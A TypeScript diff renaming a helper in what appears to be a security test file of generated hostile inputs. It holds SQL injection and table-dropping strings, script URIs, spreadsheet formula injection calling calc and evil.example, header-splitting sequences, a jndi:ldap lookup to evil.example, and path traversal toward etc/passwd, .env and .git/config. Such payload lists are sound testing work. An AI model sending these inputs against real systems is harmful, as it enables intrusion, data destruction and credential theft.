@@ -1,11 +1,11 @@
-const across = (heads: readonly string[], tails: readonly string[]) =>
+const combine = (heads: readonly string[], tails: readonly string[]) =>
   heads.flatMap((head) => tails.map((tail) => head + tail));
 
 /** Splits a list at three spaces or a line break. */
 const words = (text: string) => text.trim().split(/\s{3,}|\n/);
 
 const sql = [
-  ...across(
+  ...combine(
     ["'", '"', "`", "')", "'))", "1", "\\'"],
     [" OR 1=1 --", "; DROP TABLE products; --", " UNION SELECT passwordHash FROM administrators --"],
   ),
@@ -31,11 +31,11 @@ javascript:alert(1)   JaVaScRiPt:alert(1)   data:text/html,<script>alert(1)</scr
 
 /** Formulas for spreadsheets, and line breaks for headers, mail and logs. */
 const lines = [
-  ...across(
+  ...combine(
     ["=", "+", "-", "@", "\t=", "\r=", ";=", '"='],
     ["cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example","x")', "1+1"],
   ),
-  ...across(
+  ...combine(
     ["\r\n", "\n", "\r", "%0d%0a", "\u560d\u560a", "\u2028", "\u0085", "\v", "\\r\\n"],
     ["Set-Cookie: a=b", "Location: https://evil.example", "Bcc: all@evil.example", '{"level":"error"}'],
   ),
@@ -57,7 +57,7 @@ const templates = words(String.raw`
 const dollars = ["{7*7}", "{jndi:ldap://evil.example/a}", "`", "{`id`}"].map((rest) => `$${rest}`);
 
 const paths = [
-  ...across(["../", "..\\", "..%2f", "%2e%2e/", "....//", "..;/"], ["etc/passwd", "../../wrangler.toml"]),
+  ...combine(["../", "..\\", "..%2f", "%2e%2e/", "....//", "..;/"], ["etc/passwd", "../../wrangler.toml"]),
   ...words(String.raw`
 /   //   /.   /..   C:\Windows\win.ini   \\evil.example\x   file:///etc/passwd   /dev/null   CON   NUL.txt   a/b
 a%00.png   .env   .git/config   /images/../../x   /ok   /ok?a=b#c   /a b   /%2e%2e`),
